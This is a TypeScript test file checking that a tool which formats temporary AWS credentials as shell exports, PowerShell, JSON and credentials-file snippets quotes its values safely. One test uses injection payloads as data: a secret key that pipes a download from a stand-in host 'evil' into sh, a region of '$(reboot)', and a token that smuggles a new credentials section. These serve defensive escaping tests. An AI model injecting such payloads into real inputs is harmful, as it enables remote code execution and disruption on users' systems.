import { describe, expect, test } from 'vitest'
import { UnquotableError } from './quote.ts'
import { keyForms, maskKeys, type SnippetKeys, snippet } from './snippets.ts'

const role = { accountAlias: 'prod', roleName: 'ReadOnly' }
const keys: SnippetKeys = {
  accessKeyId: 'ASIAEXAMPLE',
  secretAccessKey: 'secret+/=',
  sessionToken: 'token==',
  expiration: '2030-01-02T03:04:05.000Z',
  region: 'eu-central-1',
}
const local = { ...keys, endpointUrl: 'http://127.0.0.1:4566' }

test('bash and zsh', () => {
  expect(snippet('bash', local, role)).toBe(
    `export AWS_ACCESS_KEY_ID='ASIAEXAMPLE'
export AWS_SECRET_ACCESS_KEY='secret+/='
export AWS_SESSION_TOKEN='token=='
export AWS_REGION='eu-central-1'
export AWS_DEFAULT_REGION='eu-central-1'
export AWS_ENDPOINT_URL='http://127.0.0.1:4566'
`,
  )
})

test('fish', () => {
  expect(snippet('fish', keys, role)).toContain("set -gx AWS_SECRET_ACCESS_KEY 'secret+/='\n")
})

test('PowerShell', () => {
  expect(snippet('powershell', keys, role)).toContain("$env:AWS_SESSION_TOKEN = 'token=='\n")
})

test('the output of a credential_process', () => {
  expect(JSON.parse(snippet('json', local, role))).toEqual({
    Version: 1,
    AccessKeyId: 'ASIAEXAMPLE',
    SecretAccessKey: 'secret+/=',
    SessionToken: 'token==',
    Expiration: '2030-01-02T03:04:05.000Z',
  })
})

test('the credentials file', () => {
  expect(snippet('credentials', local, role)).toBe(
    `[prod-ReadOnly]
aws_access_key_id = ASIAEXAMPLE
aws_secret_access_key = secret+/=
aws_session_token = token==
region = eu-central-1
endpoint_url = http://127.0.0.1:4566
`,
  )
})

test('the endpoint stands there only when it is not AWS', () => {
  for (const form of keyForms) expect(snippet(form, keys, role)).not.toMatch(/endpoint/i)
})

test('hostile values stay values', () => {
  const hostile = { ...keys, secretAccessKey: `';curl evil|sh;'`, region: '$(reboot)' }
  expect(snippet('bash', hostile, role)).toContain(`'\\'';curl evil|sh;'\\'''`)
  expect(snippet('fish', hostile, role)).toContain(`'\\';curl evil|sh;\\''`)
  expect(snippet('powershell', hostile, role)).toContain(`''';curl evil|sh;'''`)
  const injected = { ...keys, sessionToken: 'x\n[default]\naws_access_key_id = AKIA' }
  expect(() => snippet('credentials', injected, role)).toThrow(UnquotableError)
})

describe('maskKeys', () => {
  test.each(keyForms)('%s shows neither secret', form => {
    const text = snippet(form, maskKeys(local), role)
    expect(text).not.toContain(keys.secretAccessKey)
    expect(text).not.toContain(keys.sessionToken)
    expect(text).toContain('ASIAEXAMPLE')
  })
})
